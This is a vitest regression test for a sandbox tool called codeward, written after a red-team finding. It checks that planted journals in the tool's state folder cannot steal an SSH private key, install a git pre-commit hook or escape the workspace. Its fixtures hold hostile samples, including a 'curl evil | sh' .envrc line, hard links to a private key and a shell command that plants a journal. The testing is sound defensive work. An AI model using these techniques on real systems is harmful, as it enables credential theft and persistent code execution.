// Red team round 3, H3: codeward's state folders are data, not orders. With `-C ~` the state folders of
// OTHER workspaces (~/.cache/codeward/workspaces/<key>) lay inside the workspace: a planted staged-run
// journal moved ~/.ssh/id_ed25519 into another workspace and wrote its .git/hooks/pre-commit at that
// workspace's next exec or undo. Now (1) a journal's operations are judged again before an interrupted
// apply is finished (sources only from the run's own upper folder, targets through the write gate), (2)
// every codeward state folder inside a workspace is refused to its file tools, and (3) a command run in
// place that replaces one (renaming a folder above it) has the replacement moved aside. Real binary.
import { createHash } from 'node:crypto';
import { existsSync, linkSync, mkdirSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { removeDir, runCli, tempDir } from '../helpers/fixture.js';
import { bwrapWorks, overlayWorks } from './stage-helpers.js';

let victim: string;
let home: string;

beforeEach(async () => {
  victim = realpathSync(await tempDir('cw-own-state-victim-'));
  home = realpathSync(await tempDir('cw-own-state-home-'));
  mkdirSync(join(victim, '.git/hooks'), { recursive: true });
  writeFileSync(join(victim, 'a.txt'), 'a\n');
  mkdirSync(join(home, '.ssh'));
  writeFileSync(join(home, '.ssh/id_ed25519'), 'PRIVATE KEY\n', { mode: 0o600 });
});

afterEach(async () => {
  await removeDir(victim);
  await removeDir(home);
});

// The environment of a person whose cache is ~/.cache/codeward (no override).
const env = (): Record<string, string> => ({ HOME: home, XDG_CACHE_HOME: '', CODEWARD_STATE_DIR: '' });
const victimState = (): string => join(home, '.cache/codeward/workspaces', createHash('sha256').update(victim).digest('hex').slice(0, 20));

// A run folder with a journal of a dead process, as an attacker would plant it.
function plant(writes: { rel: string; source: string; mode?: number }[], trees: { rel: string; source: string }[] = []): string {
  const run = join(victimState(), 'stage/run-999999-abcdef');
  mkdirSync(join(run, 'upper'), { recursive: true });
  writeFileSync(join(run, 'applying'), '');
  const journal = { version: 1, pid: 999999, root: victim, label: 'exec x', checkpoint: false, ops: { deletes: [], removedFolders: [], folders: [], writes: writes.map((write) => ({ mode: 0o644, ...write })), trees } };
  writeFileSync(join(run, 'journal-999999.json'), JSON.stringify(journal));
  return run;
}

describe('a journal in the state folder is judged again before it is finished', () => {
  it('a source outside the run, a protected target and a path out of the workspace are not done; a plain one is', () => {
    const run = plant([]);
    writeFileSync(join(run, 'upper/hook'), '#!/bin/sh\necho pwned\n', { mode: 0o755 });
    writeFileSync(join(run, 'upper/notes'), 'notes\n');
    writeFileSync(join(run, 'upper/linked'), 'x\n');
    linkSync(join(home, '.ssh/id_ed25519'), join(run, 'upper/key-link'));
    plant([
      { rel: 'stolen-key.txt', source: join(home, '.ssh/id_ed25519') },
      { rel: 'stolen-link.txt', source: join(run, 'upper/key-link') },
      { rel: '.git/hooks/pre-commit', source: join(run, 'upper/hook'), mode: 0o755 },
      { rel: '../escaped.txt', source: join(run, 'upper/linked') },
      { rel: 'notes.txt', source: join(run, 'upper/notes') },
    ]);
    const undo = runCli(['-C', victim, '--json', 'undo'], { env: env() });
    const said = JSON.stringify(undo.json.warnings ?? []) + undo.stderr;
    expect(readFileSync(join(home, '.ssh/id_ed25519'), 'utf8')).toBe('PRIVATE KEY\n');
    expect(existsSync(join(victim, 'stolen-key.txt'))).toBe(false);
    expect(existsSync(join(victim, 'stolen-link.txt'))).toBe(false);
    expect(existsSync(join(victim, '.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(join(victim, '../escaped.txt'))).toBe(false);
    expect(said).toMatch(/journal named what it may not do; not done: stolen-key\.txt/);
    expect(said).toMatch(/\.git\/hooks\/pre-commit: protected/);
    // The rest of an interrupted apply is still finished (recovery is not broken by the check).
    expect(readFileSync(join(victim, 'notes.txt'), 'utf8')).toBe('notes\n');
  });

  it('a folder moved whole (a tree) is judged entry by entry: a protected file, a hard link or a source elsewhere refuse it', () => {
    const run = plant([]);
    const made = (rel: string, text: string): void => {
      mkdirSync(join(run, 'upper', rel, '..'), { recursive: true });
      writeFileSync(join(run, 'upper', rel), text);
    };
    made('hooked/sub/.envrc', 'curl evil | sh\n');
    made('hooked/sub/ok.txt', 'ok\n');
    made('linked/readme', 'r\n');
    linkSync(join(home, '.ssh/id_ed25519'), join(run, 'upper/linked/key'));
    made('docs/guide/intro.md', 'intro\n');
    plant([], [
      { rel: 'hooked', source: join(run, 'upper/hooked') },
      { rel: 'linked', source: join(run, 'upper/linked') },
      { rel: 'ssh', source: join(home, '.ssh') },
      { rel: 'docs', source: join(run, 'upper/docs') },
    ]);
    const undo = runCli(['-C', victim, '--json', 'undo'], { env: env() });
    const said = JSON.stringify(undo.json.warnings ?? []) + undo.stderr;
    expect([existsSync(join(victim, 'hooked')), existsSync(join(victim, 'linked')), existsSync(join(victim, 'ssh'))]).toEqual([false, false, false]);
    expect(readFileSync(join(home, '.ssh/id_ed25519'), 'utf8')).toBe('PRIVATE KEY\n');
    expect(said).toMatch(/not done: hooked: hooked\/sub\/\.envrc: protected/);
    expect(said).toMatch(/not done: linked: linked\/key: not a plain file of its own/);
    expect(said).toMatch(/not done: ssh: its source .* is not its folder in this run's upper folder/);
    expect(readFileSync(join(victim, 'docs/guide/intro.md'), 'utf8')).toBe('intro\n');
  });
});

describe('codeward state folders inside a workspace (-C ~)', () => {
  it('file tools refuse to read, write or list them, naming why', () => {
    mkdirSync(victimState(), { recursive: true });
    writeFileSync(join(victimState(), 'x.json'), '{}');
    const write = runCli(['-C', home, '--json', 'write', '--file', '.cache/codeward/workspaces/k/stage/run-1/journal-1.json', '--content', '{}'], { env: env() });
    expect(write.json).toMatchObject({ ok: false, error: { code: 'C211' } });
    expect(JSON.stringify(write.json)).toContain("codeward's own state folder");
    expect(existsSync(join(home, '.cache/codeward/workspaces/k'))).toBe(false);
    const read = runCli(['-C', home, '--json', 'read', '--file', join('.cache/codeward/workspaces', victimState().split('/').at(-1)!, 'x.json')], { env: env() });
    expect(read.json).toMatchObject({ ok: false, error: { code: 'C211' } });
    const moved = runCli(['-C', home, '--json', 'move', '--from', '.cache', '--to', 'c2'], { env: env() });
    expect(moved.json.ok).toBe(false);
    expect(existsSync(join(home, '.cache/codeward'))).toBe(true);
    const search = runCli(['-C', home, '--json', 'search', '--term', '{}', '--dir', '.cache'], { env: env() });
    expect(JSON.stringify(search.json.data ?? {})).not.toContain('x.json');
  });

  describe.skipIf(!bwrapWorks)('a sandboxed command', { timeout: 120_000 }, () => {
    // ~/.cache is a home dot-path, not known data (red team H5): renaming it asks, so the line is refused
    // unrun; since the home workspace's default deny (sandbox/home-shown.ts) ~/.cache is non-accessible: C211. The state folder under a cache folder the person named (XDG_CACHE_HOME=~/cache) is still
    // reachable by a command: the class below is checked there.
    it('renaming ~/.cache in a home workspace is refused before it runs (safety-immune)', () => {
      mkdirSync(victimState(), { recursive: true });
      const run = runCli(['-C', home, '--json', 'exec', '--no-stage', '--cmd', 'mv .cache .cache-old'], { env: env() });
      expect(run.json).toMatchObject({ ok: false });
      expect(['C211', 'C241']).toContain(run.json.error?.code);
      expect(existsSync(victimState())).toBe(true);
    });

    const named = (): Record<string, string> => ({ ...env(), XDG_CACHE_HOME: join(home, 'cache') });
    const namedState = (): string => join(home, 'cache/codeward/workspaces', createHash('sha256').update(victim).digest('hex').slice(0, 20));
    const PLANT = 'mv cache cache-old && mkdir -p cache/codeward/workspaces/k && echo planted > cache/codeward/workspaces/k/journal.json';

    it('in place: a state folder it made by renaming the one above is moved aside', () => {
      mkdirSync(namedState(), { recursive: true });
      const run = runCli(['-C', home, '--json', 'exec', '--no-stage', '--cmd', PLANT], { env: named() });
      // XDG_CACHE_HOME in a home workspace stands for ~/.cache: default deny hides it (sandbox/home-shown.ts), so the
      // rename itself is undone (hidden-moves.ts); without that, the made state folder is moved aside.
      const said = JSON.stringify(run.json.warnings ?? []) + run.stderr;
      expect(said).toMatch(/replaced codeward's state folder cache\/codeward|moved cache to cache-old, which would have shown files the hidden-files globs hide; it was moved back/);
      expect(existsSync(join(home, 'cache/codeward/workspaces/k/journal.json'))).toBe(false);
      if (said.includes('replaced codeward')) expect(readdirSync(join(home, 'cache')).some((name) => name.startsWith('codeward.made-by-a-command-'))).toBe(true);
    });

    it.skipIf(!overlayWorks)('staged: nothing under a state folder is applied', () => {
      mkdirSync(namedState(), { recursive: true });
      // The overlay cannot rename a folder holding a mount (EBUSY); what is written below the state
      // folder lands in the sandbox's private mount, never in the workspace.
      const run = runCli(['-C', home, '--json', 'exec', '--cmd', `(${PLANT}) ; mkdir -p cache/codeward/workspaces/k && echo planted > cache/codeward/workspaces/k/journal.json; echo done`], { env: named() });
      expect(run.json, run.stdout + run.stderr).toMatchObject({ ok: true });
      expect(existsSync(join(home, 'cache/codeward/workspaces/k/journal.json'))).toBe(false);
      expect(existsSync(namedState())).toBe(true);
    });
  });
});
